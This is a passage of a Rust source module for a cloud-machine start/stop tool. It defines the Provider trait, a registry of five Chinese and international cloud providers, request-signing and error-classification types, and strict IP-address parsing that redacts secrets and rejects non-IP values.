//! The [`Provider`] trait, the types it speaks in, and the [`PROVIDERS`] registry.
//!
//! A provider translates and does no I/O: it says what to send to start or stop machines and to ask
//! their state (and, as data, any second call a cloud needs: QingCloud's job log, Zenlayer's
//! addresses), how to sign a request, and how to read the answers into [`Phase`]s and classed
//! [`ApiError`]s. The engine (`crate::engine`: its sender signs, sends and retries, its client
//! makes the calls, its lifecycle, poller and port waits decide what comes next) owns every
//! `.await`, so the trait stays synchronous and object-safe and the registry is a plain slice of
//! `&dyn Provider`. A new cloud is one module here plus one line in [`PROVIDERS`].

use std::fmt;
use std::ops::RangeInclusive;
use std::time::Duration;

use chrono::{DateTime, Utc};
use serde::de::DeserializeOwned;
use serde::{Deserialize, Deserializer, Serialize};

use crate::credentials::{CredentialVars, Credentials};
use crate::env_vars::{self, EnvVar};

pub mod compshare;
pub mod qingcloud;
pub mod tencent;
pub mod volcengine;
pub mod zenlayer;

pub use compshare::UcloudCompshare;
pub use qingcloud::QingcloudEhpc;
pub use tencent::TencentCvm;
pub use volcengine::VolcengineEcs;
pub use zenlayer::ZenlayerZec;

/// Every cloud, looked up by [`Provider::name`]: a new cloud is one module plus one line here.
pub static PROVIDERS: &[&dyn Provider] = &[
    &QingcloudEhpc,
    &TencentCvm,
    &VolcengineEcs,
    &ZenlayerZec,
    &UcloudCompshare,
];

/// The provider called `name`, if any.
pub fn find(name: &str) -> Option<&'static dyn Provider> {
    PROVIDERS.iter().copied().find(|p| p.name() == name)
}

/// Every provider's name, in registry order: the values `--provider` accepts.
pub fn names() -> impl Iterator<Item = &'static str> {
    PROVIDERS.iter().map(|p| p.name())
}

/// Every environment variable cloudstart reads: the ones all clouds share ([`env_vars::ALL`]),
/// then each registered cloud's own, in registry order.
pub fn every_env_var() -> impl Iterator<Item = &'static EnvVar> {
    (env_vars::ALL.iter()).chain(PROVIDERS.iter().flat_map(|p| p.spec().env_vars))
}

/// A cloud API: requests to build, sign and read. See the module docs for the division of labour.
///
/// Contract for implementors:
/// - Building and signing are pure: the engine passes the time in, so the same inputs always give
///   the same bytes, and vectors from the vendor's SDK can pin them down.
/// - `parse_action` succeeds only when the cloud accepted the start or stop; "already running",
///   "already stopping" and every other refusal come back as an [`ApiError`] whose [`ErrorClass`]
///   tells the engine what to do next (describe, retry, or give up).
/// - `parse_describe` maps every state name the cloud reports into a [`Phase`], using
///   [`Phase::Unknown`] rather than failing on a name it does not know. Ids the cloud did not
///   return are simply absent from the result.
/// - A body that is not what the cloud documents is an `ApiError` of class
///   [`ErrorClass::BadResponse`], never a panic.
pub trait Provider: Sync {
    /// Static facts about the cloud: its name, id shape, batch limits and where its settings come
    /// from.
    fn spec(&self) -> &'static ProviderSpec;

    /// The `--provider` value, e.g. `tencent`.
    fn name(&self) -> &'static str {
        self.spec().name
    }

    /// Checks an instance id's shape before any request; `Err` says what shape was expected.
    fn validate_id(&self, id: &str) -> Result<(), String> {
        self.spec().id_shape.check(id)
    }

    /// The production base URL (`https://host`) for `location`.
    fn default_endpoint(&self, location: &Location) -> String;

    /// The call that does `action` to `ids` (at most `spec().action_batch` of them): the cloud's
    /// start or stop call, with `options` on the wire where the cloud has them.
    fn action_call(
        &self,
        action: Action,
        ids: &[String],
        location: &Location,
        options: &ActionOptions,
    ) -> ApiCall;

    /// The call that reports the state of `ids` (at most `spec().describe_batch` of them).
    fn describe_call(&self, ids: &[String], location: &Location) -> ApiCall;

    /// A cheap authenticated read that touches no machine, for `config check --online`: whether
    /// the cloud accepts the credentials. Its answer is parsed as a describe's. By default the
    /// describe call without ids — the first page of the account's machines in `location`
    /// (Tencent `DescribeInstances`, Volcengine `DescribeInstances`, QingCloud EHPC
    /// `/api/ehpc/hpc/cluster/list`, CompShare `DescribeCompShareInstance`: each takes no ids as
    /// "list").
    fn probe_call(&self, location: &Location) -> ApiCall {
        self.describe_call(&[], location)
    }

    /// Signs `call` for the endpoint host `host` (the `Host` value sent) at time `now`; `location`
    /// is there for schemes whose credential scope names the region.
    fn sign(
        &self,
        call: &ApiCall,
        host: &str,
        location: &Location,
        credentials: &Credentials,
        now: DateTime<Utc>,
    ) -> SignedRequest;

    /// Signs the `inputs` of one of the cloud's signing vectors (`tests/fixtures/vectors/<cloud>.json`,
    /// written from the vendor's SDK) and returns every stage the signer exposes, each under the
    /// JSON pointer of the SDK's value in the vector (`/expected/signature`): one test checks every
    /// cloud's stages byte for byte. `Err` names an input the vector lacks.
    fn vector_stages(&self, inputs: &serde_json::Value) -> Result<VectorStages, String>;

    /// Reads the answer to an [`Provider::action_call`] for `action`; its error codes mean what
    /// the vocabulary says they mean for that action ([`Vocabulary::class_in`]).
    fn parse_action(&self, action: Action, response: &HttpResponse) -> Result<Accepted, ApiError>;

    /// Reads the answer to a describe call.
    fn parse_describe(&self, response: &HttpResponse) -> Result<Vec<InstanceState>, ApiError>;

    /// The call that reports the asynchronous job `job_id` of a start or stop, for clouds whose
    /// action calls answer with one (QingCloud); `None` elsewhere.
    fn job_call(&self, _job_id: &str, _location: &Location) -> Option<ApiCall> {
        None
    }

    /// Reads the answer to a [`Provider::job_call`].
    fn parse_job(&self, response: &HttpResponse) -> Result<Vec<JobStatus>, ApiError> {
        Err(ApiError::bad_response(
            "job",
            response,
            "this cloud has no job calls",
        ))
    }

    /// The call that reports the addresses and zone of `ids` (at most `spec().describe_batch` of
    /// them), for clouds whose describe call carries neither (Zenlayer); `None` elsewhere. The
    /// engine makes it once for the machines a describe found running without addresses.
    fn detail_call(&self, _ids: &[String], _location: &Location) -> Option<ApiCall> {
        None
    }

    /// Reads the answer to a [`Provider::detail_call`]: each listed machine's details.
    fn parse_details(&self, response: &HttpResponse) -> Result<Vec<Detail>, ApiError> {
        Err(ApiError::bad_response(
            "detail",
            response,
            "this cloud has no detail calls",
        ))
    }
}

impl fmt::Debug for dyn Provider {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// A signer's stages for one signing vector: `(pointer to the SDK's value in the vector, value)`.
pub type VectorStages = Vec<(&'static str, String)>;

/// The string at `pointer` in a signing vector's inputs, or which input is missing.
pub(crate) fn vector_text<'a>(
    inputs: &'a serde_json::Value,
    pointer: &str,
) -> Result<&'a str, String> {
    (inputs.pointer(pointer).and_then(serde_json::Value::as_str))
        .ok_or_else(|| format!("the vector has no text input {pointer}"))
}

/// The integer at `pointer` in a signing vector's inputs.
pub(crate) fn vector_int(inputs: &serde_json::Value, pointer: &str) -> Result<i64, String> {
    (inputs.pointer(pointer).and_then(serde_json::Value::as_i64))
        .ok_or_else(|| format!("the vector has no integer input {pointer}"))
}

/// The `[[name, value], …]` list at `pointer` in a signing vector's inputs.
pub(crate) fn vector_pairs(
    inputs: &serde_json::Value,
    pointer: &str,
) -> Result<Vec<(String, String)>, String> {
    let pairs = (inputs
        .pointer(pointer)
        .and_then(serde_json::Value::as_array))
    .ok_or_else(|| format!("the vector has no list input {pointer}"))?;
    (pairs.iter())
        .map(|pair| match (pair[0].as_str(), pair[1].as_str()) {
            (Some(name), Some(value)) => Ok((name.to_string(), value.to_string())),
            _ => Err(format!("{pointer}: not a [name, value] pair")),
        })
        .collect()
}

/// Static facts about one cloud, read by the settings resolver and the engine.
#[derive(Debug)]
pub struct ProviderSpec {
    /// The `--provider` value.
    pub name: &'static str,
    /// What the cloud's instance ids look like.
    pub id_shape: IdShape,
    /// Most ids one start or stop call may carry.
    pub action_batch: usize,
    /// Most ids one describe call may carry.
    pub describe_batch: usize,
    /// Whether `--region` is needed, and the environment variables that can supply it.
    pub region: Requirement,
    /// Whether `--zone` is needed, and the environment variables that can supply it.
    pub zone: Requirement,
    /// Where credentials come from.
    pub credentials: CredentialVars,
    /// Every environment variable this cloud reads (declared with `env_vars::cloud_env_vars!`
    /// in its module): the man pages list them beside [`env_vars::ALL`].
    pub env_vars: &'static [EnvVar],
    /// The per-cloud endpoint override variable, e.g. `CLOUDSTART_TENCENT_ENDPOINT`.
    pub endpoint_var: &'static str,
    /// The cloud's state names and error codes, declared once.
    pub vocabulary: Vocabulary,
    /// Whether the cloud can start a GPU machine without its GPU (`--without-gpu`).
    pub without_gpu: bool,
    /// Whether start and stop calls carry [`ActionOptions::client_token`] and the cloud
    /// de-duplicates by it, so a call that got no answer may be sent again as it was.
    pub idempotent_actions: bool,
    /// What `--force` and `--stop-charging` become on this cloud's stop call.
    pub stop: StopSupport,
    /// Whether describe answers carry a running machine's IP addresses, which `--wait-port` and
    /// `--wait-ssh` connect to (and the report lists).
    pub reports_addresses: bool,
    /// The request rates cloudstart keeps under, per cloud and region; every one holds at once
    /// (an hourly quota and a per-second ceiling, say).
    pub rate_limits: &'static [RateLimit],
}

/// One cloud's words, declared once as data: every state name it documents with its [`Phase`],
/// and its error codes with their [`ErrorClass`]. The provider's parsers read it to understand
/// answers and the simulator's dialect reads it to speak them, so the two cannot disagree.
#[derive(Debug)]
pub struct Vocabulary {
    /// Every documented state name and where it stands in the lifecycle.
    pub states: &'static [(&'static str, Phase)],
    /// The state a machine shows between an accepted start and RUNNING.
    pub starting: &'static str,
    /// The state a machine shows between an accepted stop and STOPPED.
    pub stopping: &'static str,
    /// Error codes and their class, for the start call and every other call; a code ending in
    /// `*` stands for every code it begins. Codes not listed are classified by the provider's
    /// fallback rules (HTTP status, words).
    pub errors: &'static [(&'static str, ErrorClass)],
    /// What the stop call's codes mean where that differs from `errors` (the start's "already
    /// stopping" lock is the stop's "already underway"); read first for stop answers.
    pub stop_errors: &'static [(&'static str, ErrorClass)],
}

impl Vocabulary {
    /// What the state `name` means; [`Phase::Unknown`] for a name the cloud does not document.
    pub fn phase(&self, name: &str) -> Phase {
        self.states
            .iter()
            .find(|(state, _)| *state == name)
            .map_or(Phase::Unknown, |(_, phase)| *phase)
    }

    /// The first documented state with `phase` (the simulator's name for it).
    pub fn state(&self, phase: Phase) -> Option<&'static str> {
        self.states
            .iter()
            .find(|(_, p)| *p == phase)
            .map(|(state, _)| *state)
    }

    /// The class of error `code` in an answer to anything but a stop call: an exact entry
    /// first, then the longest matching `prefix*`.
    pub fn class(&self, code: &str) -> Option<ErrorClass> {
        lookup(self.errors, code)
    }

    /// The class of error `code` in an answer to `action`: for a stop, `stop_errors` first.
    pub fn class_in(&self, action: Action, code: &str) -> Option<ErrorClass> {
        match action {
            Action::Start => self.class(code),
            Action::Stop => lookup(self.stop_errors, code).or_else(|| self.class(code)),
        }
    }

    /// The first listed code of `class` (the simulator answers with it).
    pub fn code(&self, class: ErrorClass) -> Option<&'static str> {
        first_code(self.errors, class)
    }

    /// The first listed code of `class` in answers to `action`.
    pub fn code_in(&self, action: Action, class: ErrorClass) -> Option<&'static str> {
        match action {
            Action::Start => self.code(class),
            Action::Stop => first_code(self.stop_errors, class).or_else(|| self.code(class)),
        }
    }
}

/// The class of `code` in `table`: an exact entry first, then the longest matching `prefix*`.
fn lookup(table: &[(&str, ErrorClass)], code: &str) -> Option<ErrorClass> {
    let exact = table.iter().find(|(c, _)| *c == code);
    let prefixed = || {
        (table.iter())
            .filter_map(|(c, class)| Some((c.strip_suffix('*')?, class)))
            .filter(|(prefix, _)| code.starts_with(prefix))
            .max_by_key(|(prefix, _)| prefix.len())
            .map(|(_, class)| class)
    };
    exact.map(|(_, class)| class).or_else(prefixed).copied()
}

/// The first code of `class` in `table` that is not a prefix.
fn first_code(table: &[(&'static str, ErrorClass)], class: ErrorClass) -> Option<&'static str> {
    (table.iter())
        .find(|(code, c)| *c == class && !code.ends_with('*'))
        .map(|(code, _)| *code)
}

/// What a lifecycle call asks of a machine.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Action {
    /// Start it: STOPPED → RUNNING.
    Start,
    /// Stop it: RUNNING → STOPPED.
    Stop,
}

impl Action {
    /// `start` or `stop`, for messages, events and the report.
    pub fn name(self) -> &'static str {
        match self {
            Action::Start => "start",
            Action::Stop => "stop",
        }
    }

    /// The phase the action drives toward.
    pub fn target(self) -> Phase {
        match self {
            Action::Start => Phase::Running,
            Action::Stop => Phase::Stopped,
        }
    }

    /// The phase a machine shows once the cloud accepted the action.
    pub fn underway(self) -> Phase {
        match self {
            Action::Start => Phase::Starting,
            Action::Stop => Phase::Stopping,
        }
    }

    /// The phase the action applies to: where a machine must be for the cloud to take it.
    pub fn source(self) -> Phase {
        match self {
            Action::Start => Phase::Stopped,
            Action::Stop => Phase::Running,
        }
    }
}

/// What the stop options become on one cloud's wire, for `--help`, README and the usage error
/// a cloud without them gives; `None` where the cloud has no such option.
#[derive(Debug)]
pub struct StopSupport {
    /// What a stop without `--force` sends: the cloud's gentle stop (an OS shutdown).
    pub gentle: &'static str,
    /// What `--force` sends: a hard power-off.
    pub force: Option<&'static str>,
    /// What `--stop-charging` sends: stop billing the compute while stopped.
    pub stop_charging: Option<&'static str>,
}

/// At most `requests` API requests in any window of `per`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RateLimit {
    /// Requests allowed in one window.
    pub requests: u32,
    /// The window.
    pub per: Duration,
}

/// What one cloud's instance ids look like: a prefix, then a run of allowed bytes.
#[derive(Debug)]
pub struct IdShape {
    /// The prefixes an id may start with (one of them); empty for opaque ids.
    pub prefixes: &'static [&'static str],
    /// How long the part after the prefix may be.
    pub body_len: RangeInclusive<usize>,
    /// Whether a byte may appear after the prefix.
    pub body_byte: fn(u8) -> bool,
    /// The shape in words, for the error message, e.g. "`ins-` and 8 lowercase letters or digits".
    pub described: &'static str,
    /// A well-formed id, for the error message.
    pub example: &'static str,
}

impl IdShape {
    /// `Ok` when `id` has this shape; otherwise what was expected.
    pub fn check(&self, id: &str) -> Result<(), String> {
        let body = if self.prefixes.is_empty() {
            Some(id)
        } else {
            self.prefixes
                .iter()
                .find_map(|prefix| id.strip_prefix(prefix))
        };
        let valid = body.is_some_and(|body| {
            self.body_len.contains(&body.len()) && body.bytes().all(self.body_byte)
        });
        if valid {
            Ok(())
        } else {
            Err(format!(
                "expected {}, e.g. {}",
                self.described, self.example
            ))
        }
    }
}

/// Lowercase ASCII letters and digits: the body of most clouds' ids.
pub fn lower_alphanumeric(byte: u8) -> bool {
    byte.is_ascii_lowercase() || byte.is_ascii_digit()
}

/// Per-run choices a start or stop call carries besides the ids.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ActionOptions {
    /// A token unique to this call, for clouds that de-duplicate retried requests with it; the
    /// engine builds the call once, so every retry carries the same token.
    pub client_token: String,
    /// Start without the GPU (only where `ProviderSpec::without_gpu`).
    pub without_gpu: bool,
    /// Stop with a hard power-off instead of the gentle stop (`--force`; only where
    /// [`StopSupport::force`]).
    pub force: bool,
    /// Stop billing the compute while stopped (`--stop-charging`; only where
    /// [`StopSupport::stop_charging`]).
    pub stop_charging: bool,
}

/// Whether a location setting is needed, and the environment variables that can supply it.
#[derive(Debug)]
pub enum Requirement {
    /// Must be given by flag or one of these variables.
    Required(&'static [&'static str]),
    /// Accepted and ignored.
    Unused,
}

/// Where the machines live: the region and zone a target was resolved to.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Location {
    /// The region, for clouds that need one.
    pub region: Option<String>,
    /// The zone, for clouds that need one.
    pub zone: Option<String>,
}

/// HTTP methods the clouds use.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Method {
    /// `GET`
    Get,
    /// `POST`
    Post,
}

impl Method {
    /// The method as sent on the wire.
    pub fn as_str(self) -> &'static str {
        match self {
            Method::Get => "GET",
            Method::Post => "POST",
        }
    }
}

/// One API call before signing: what to send, not yet how to authenticate it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ApiCall {
    /// The cloud's action name, for messages and logs (`StartInstances`).
    pub action: &'static str,
    /// The HTTP method.
    pub method: Method,
    /// The request path, e.g. `/`.
    pub path: String,
    /// Query parameters in sending order, not yet encoded.
    pub query: Vec<(String, String)>,
    /// Headers that carry no secret (action, version, region, content type).
    pub headers: Vec<(String, String)>,
    /// The body bytes.
    pub body: Vec<u8>,
}

/// A request ready to send: the call plus its authentication. `Debug` leaves out the query and
/// the body, where some clouds put the signature.
#[derive(Clone, PartialEq, Eq)]
pub struct SignedRequest {
    /// The HTTP method.
    pub method: Method,
    /// Path and encoded query string, e.g. `/?a=b`.
    pub path_and_query: String,
    /// Every header to send.
    pub headers: Vec<Header>,
    /// The body bytes.
    pub body: Vec<u8>,
}

impl fmt::Debug for SignedRequest {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let (path, query) = self
            .path_and_query
            .split_once('?')
            .unwrap_or((&self.path_and_query, ""));
        f.debug_struct("SignedRequest")
            .field("method", &self.method)
            .field("path", &path)
            .field("query_bytes", &query.len())
            .field("headers", &self.headers)
            .field("body_bytes", &self.body.len())
            .finish()
    }
}

/// One HTTP header; sensitive ones are hidden from logs and `Debug` output.
#[derive(Clone, PartialEq, Eq)]
pub struct Header {
    /// Header name.
    pub name: String,
    /// Header value.
    pub value: String,
    /// True for `Authorization`, tokens and anything else derived from a secret.
    pub sensitive: bool,
}

impl Header {
    /// A header that may be logged.
    pub fn plain(name: impl Into<String>, value: impl Into<String>) -> Self {
        Self {
            name: name.into(),
            value: value.into(),
            sensitive: false,
        }
    }

    /// A header that must never be logged.
    pub fn sensitive(name: impl Into<String>, value: impl Into<String>) -> Self {
        Self {
            name: name.into(),
            value: value.into(),
            sensitive: true,
        }
    }
}

impl fmt::Debug for Header {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let value = if self.sensitive {
            "(redacted)"
        } else {
            &self.value
        };
        write!(f, "{}: {}", self.name, value)
    }
}

/// An HTTP answer as the engine read it (body already capped in size).
#[derive(Debug, Clone, Default)]
pub struct HttpResponse {
    /// The status code.
    pub status: u16,
    /// Response headers, names lower-cased.
    pub headers: Vec<(String, String)>,
    /// The body bytes.
    pub body: Vec<u8>,
}

impl HttpResponse {
    /// A response with `status` and `body` and no headers.
    pub fn new(status: u16, body: impl AsRef<[u8]>) -> Self {
        HttpResponse {
            status,
            headers: Vec::new(),
            body: body.as_ref().to_vec(),
        }
    }

    /// The first value of header `name` (case-insensitive).
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// A start or stop the cloud accepted.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Accepted {
    /// The cloud's request id.
    pub request_id: Option<String>,
    /// The asynchronous job the cloud created for the call, where it reports one (QingCloud).
    pub job_id: Option<String>,
    /// Ids the cloud refused inside an otherwise accepted batch, for clouds that report
    /// per-instance results; every other id of the call was accepted.
    pub refused: Vec<(String, ApiError)>,
}

/// Coarse state of a machine: where it stands in the lifecycle, which is all the engine reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Phase {
    /// Up.
    Running,
    /// On its way up.
    Starting,
    /// On its way down.
    Stopping,
    /// Down.
    Stopped,
    /// In another transition (creating, rebooting, resizing, migrating): it settles by itself.
    Transition,
    /// A state it will not leave by itself for RUNNING or STOPPED: a wait for either fails.
    Failed,
    /// A state name the provider does not know: waited on like a transition until the deadline.
    Unknown,
}

impl Phase {
    /// Whether a machine in this phase is on its way somewhere and will settle by itself.
    pub fn is_moving(self) -> bool {
        matches!(
            self,
            Phase::Starting | Phase::Stopping | Phase::Transition | Phase::Unknown
        )
    }
}

/// One machine's state as the cloud reported it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InstanceState {
    /// The instance id.
    pub id: String,
    /// The cloud's own state name, e.g. `STARTING`.
    pub raw: String,
    /// What that state means for a start-and-wait.
    pub phase: Phase,
    /// Why the state is a failure, when the cloud says (e.g. the failed operation's message).
    pub detail: Option<String>,
    /// The request id of a start or stop the cloud reports as failed on this machine (Tencent's
    /// `LatestOperationRequestId`). The provider leaves the phase alone: the engine fails the
    /// machine only when that request is this run's call, never for an older one.
    pub failed_operation: Option<String>,
    /// The error code a failure reports instead of the state name (a failed job's code).
    pub failure_code: Option<String>,
    /// The machine's addresses, as far as the cloud reports them; empty when it reports none.
    pub addresses: Addresses,
    /// The zone the cloud places the machine in, where its answer says.
    pub zone: Option<String>,
}

/// What a [`Provider::detail_call`] reports about one machine besides its state.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Detail {
    /// The instance id.
    pub id: String,
    /// Its addresses; empty when the cloud reports none.
    pub addresses: Addresses,
    /// Its zone, where the answer says.
    pub zone: Option<String>,
}

/// A machine's IP addresses as the cloud reports them, in the cloud's order: the ones reachable
/// from the internet and the ones inside its network.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Addresses {
    /// Public addresses (an EIP, a public IP).
    pub public: Vec<String>,
    /// Private addresses (the primary network interface's, the VPC's).
    pub private: Vec<String>,
}

impl Addresses {
    /// Whether the cloud reported no address at all.
    pub fn is_empty(&self) -> bool {
        self.public.is_empty() && self.private.is_empty()
    }

    /// The same addresses, at most [`MAX_ADDRESSES`] of each kind: the first ones, in the
    /// cloud's order.
    pub fn bounded(mut self) -> Self {
        for list in [&mut self.public, &mut self.private] {
            if list.len() > MAX_ADDRESSES {
                tracing::debug!(
                    "ignoring {} address(es) of a machine beyond the first {MAX_ADDRESSES} of a kind",
                    list.len() - MAX_ADDRESSES
                );
                list.truncate(MAX_ADDRESSES);
            }
        }
        self
    }

    /// The address to show a person: the first public one, else the first private one.
    pub fn preferred(&self) -> Option<&str> {
        self.public
            .first()
            .or(self.private.first())
            .map(String::as_str)
    }
}

/// A wire field the report can do without, read so that it never fails an answer: null, or a
/// value of another shape than `T`, reads as `T::default()` (add `#[serde(default)]` for a
/// missing field too).
#[derive(Debug, Default)]
pub(crate) struct Lenient<T>(pub(crate) T);

impl<'de, T: DeserializeOwned + Default> Deserialize<'de> for Lenient<T> {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        let value = serde_json::Value::deserialize(deserializer)?;
        Ok(Lenient(serde_json::from_value(value).unwrap_or_default()))
    }
}

/// A zone name as a cloud sends it, read leniently like the addresses: anything but a non-empty
/// string is no zone.
#[derive(Debug, Default)]
pub(crate) struct WireZone(pub(crate) Option<String>);

impl<'de> Deserialize<'de> for WireZone {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        let value = serde_json::Value::deserialize(deserializer)?;
        let zone = (value.as_str().map(str::trim))
            .filter(|zone| !zone.is_empty())
            .map(str::to_string);
        Ok(WireZone(zone))
    }
}

/// The most addresses of one kind (public, private) kept for one machine. A machine has a
/// handful; a describe answer with thousands is hostile or broken, and every one kept is held
/// for the whole run and copied into the report, the Action's outputs and every event.
pub const MAX_ADDRESSES: usize = 16;

/// IP addresses as a cloud sends them — a list of strings, or one string — read leniently: null,
/// other shapes, items that are not strings and empty strings (Volcengine's "no EIP") are none.
/// Only IPv4 and IPv6 literals are kept (in their canonical form), at most [`MAX_ADDRESSES`]: an
/// address reaches the report, the Action's step outputs and a port probe, so a newline, a
/// shell metacharacter or a host name in one must never get that far. What is dropped is
/// counted in one `debug` line.
#[derive(Debug, Default)]
pub(crate) struct WireIps(pub(crate) Vec<String>);

impl<'de> Deserialize<'de> for WireIps {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        // A visitor rather than a `serde_json::Value`: a list of 100,000 items is walked, never
        // held, and only what is kept is allocated.
        let mut kept = KeptIps::default();
        deserializer.deserialize_any(IpsVisitor {
            kept: &mut kept,
            top: true,
        })?;
        kept.log_dropped("a describe answer");
        Ok(WireIps(kept.ips))
    }
}

/// Addresses kept so far, and what was dropped and why.
#[derive(Default)]
struct KeptIps {
    ips: Vec<String>,
    malformed: usize,
    /// The first malformed one, clipped and escaped for the log.
    first_malformed: Option<String>,
    beyond_limit: usize,
}

impl KeptIps {
    fn offer(&mut self, text: &str) {
        let text = text.trim();
        if text.is_empty() {
            return;
        }
        match text.parse::<std::net::IpAddr>() {
            Ok(_) if self.ips.len() >= MAX_ADDRESSES => self.beyond_limit += 1,
            Ok(ip) => self.ips.push(ip.to_string()),
            Err(_) => {
                self.malformed += 1;
                self.first_malformed
                    .get_or_insert_with(|| format!("`{}`", crate::error::clip(text)));
            }
        }
    }

    fn log_dropped(&self, from: &str) {
        if self.malformed > 0 {
            tracing::debug!(
                "ignoring {} address(es) in {from} that are not IP addresses (the first: {})",
                self.malformed,
                self.first_malformed.as_deref().unwrap_or_default()
            );
        }
        if self.beyond_limit > 0 {
            tracing::debug!(
                "ignoring {} address(es) in {from} beyond the first {MAX_ADDRESSES} of a kind",
                self.beyond_limit
            );
        }
    }
}

/// Reads one address field: a string, or a list (`top`) whose string items are addresses;
/// anything else, and lists inside the list, are walked over and skipped.
struct IpsVisitor<'k> {
    kept: &'k mut KeptIps,
    top: bool,
}

impl<'de> serde::de::DeserializeSeed<'de> for IpsVisitor<'_> {
    type Value = ();

    fn deserialize<D: Deserializer<'de>>(self, deserializer: D) -> Result<(), D::Error> {
        deserializer.deserialize_any(self)
    }
}

impl<'de> serde::de::Visitor<'de> for IpsVisitor<'_> {
    type Value = ();

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("IP addresses")
    }

    fn visit_str<E: serde::de::Error>(self, text: &str) -> Result<(), E> {
        self.kept.offer(text);
        Ok(())
    }

    fn visit_seq<A: serde::de::SeqAccess<'de>>(self, mut items: A) -> Result<(), A::Error> {
        if self.top {
            let kept = self.kept;
            while (items.next_element_seed(IpsVisitor {
                kept: &mut *kept,
                top: false,
            })?)
            .is_some()
            {}
        } else {
            while items.next_element::<serde::de::IgnoredAny>()?.is_some() {}
        }
        Ok(())
    }

    fn visit_map<A: serde::de::MapAccess<'de>>(self, mut map: A) -> Result<(), A::Error> {
        use serde::de::IgnoredAny;
        while map.next_entry::<IgnoredAny, IgnoredAny>()?.is_some() {}
        Ok(())
    }

    fn visit_bool<E: serde::de::Error>(self, _: bool) -> Result<(), E> {
        Ok(())
    }

    fn visit_i64<E: serde::de::Error>(self, _: i64) -> Result<(), E> {
        Ok(())
    }

    fn visit_u64<E: serde::de::Error>(self, _: u64) -> Result<(), E> {
        Ok(())
    }

    fn visit_f64<E: serde::de::Error>(self, _: f64) -> Result<(), E> {
        Ok(())
    }

    fn visit_unit<E: serde::de::Error>(self) -> Result<(), E> {
        Ok(())
    }
}

impl InstanceState {
    /// A machine in state `raw`, meaning `phase`, with nothing more to say.
    pub fn new(id: impl Into<String>, raw: impl Into<String>, phase: Phase) -> Self {
        Self {
            id: id.into(),
            raw: raw.into(),
            phase,
            detail: None,
            failed_operation: None,
            failure_code: None,
            addresses: Addresses::default(),
            zone: None,
        }
    }

    /// The same state with `addresses`, at most [`MAX_ADDRESSES`] of each kind (a cloud that
    /// lists them in several places, one per network interface, is bounded here).
    pub fn with_addresses(self, addresses: Addresses) -> Self {
        Self {
            addresses: addresses.bounded(),
            ..self
        }
    }

    /// The same state in `zone`.
    pub fn with_zone(self, zone: Option<String>) -> Self {
        Self { zone, ..self }
    }
}

/// Where a start's asynchronous job is (QingCloud's job log).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JobStatus {
    /// The job id.
    pub job_id: String,
    /// Whether the job is still going, done, or failed.
    pub phase: JobPhase,
    /// The cloud's status word, e.g. `working`.
    pub raw: String,
    /// The job's error codes, when it failed and the cloud says why.
    pub error_code: Option<String>,
}

/// What a job's status means for the machines it starts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JobPhase {
    /// Queued or working: the machines' own states decide.
    Working,
    /// Finished: the machines' own states decide.
    Successful,
    /// The start failed: its machines will not come up.
    Failed,
}

/// What an error from the cloud means for the engine.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ErrorClass {
    /// The machine is already where the action drives it (running, for a start): success.
    AlreadyDone,
    /// The machine is already on its way there (starting, for a start): wait for it.
    AlreadyUnderway,
    /// The machine's state forbids starting it now; a describe tells which state.
    WrongState,
    /// The cloud took the call but reports that the start or stop failed on this machine
    /// (Zenlayer's list of instances that failed to shut down): a describe tells whether it got
    /// there anyway; if not, the machine has failed (exit 7).
    OperationFailed,
    /// The machine does not exist.
    NotFound,
    /// The cloud throttled us: retry later.
    Throttled,
    /// A transient cloud fault (5xx, internal error): retry a few times.
    Transient,
    /// Another operation holds the machine (an operation lock), or the same request is still
    /// being processed: retry with a pause until the deadline, however long that lasts.
    Busy,
    /// The cloud's gateway gave up waiting for the answer (CompShare RetCode 110): the cloud may
    /// have acted, so a start or stop is described before it is sent again.
    Unanswered,
    /// Credentials unknown or the signature did not verify.
    Auth,
    /// The session token of temporary credentials was refused: expired, or not valid (exit 3).
    TokenExpired,
    /// The key is valid but lacks a permission for the action or the machines (exit 3).
    PermissionDenied,
    /// The signature's timestamp is too far from the cloud's clock.
    ClockSkew,
    /// No capacity for the machine now: its type or zone is sold out, the cloud is short of the
    /// resources it needs. A refusal like [`ErrorClass::Refused`] (exit 4) unless the run asked
    /// to wait capacity out (`--retry-capacity`): then sent again with backoff until the deadline.
    Capacity,
    /// Any other refusal: quota, balance, bad parameter.
    Refused,
    /// The answer could not be read (not JSON, missing fields).
    BadResponse,
}

impl ErrorClass {
    /// Whether the request may be sent again.
    pub fn is_retryable(self) -> bool {
        matches!(
            self,
            ErrorClass::Throttled
                | ErrorClass::Transient
                | ErrorClass::Busy
                | ErrorClass::BadResponse
                | ErrorClass::Unanswered
        )
    }

    /// Whether the cloud may have acted on a start or stop that failed this way.
    pub fn may_have_acted(self) -> bool {
        matches!(self, ErrorClass::BadResponse | ErrorClass::Unanswered)
    }

    /// Whether a refusal of a call for several machines may be one machine's alone — its lock,
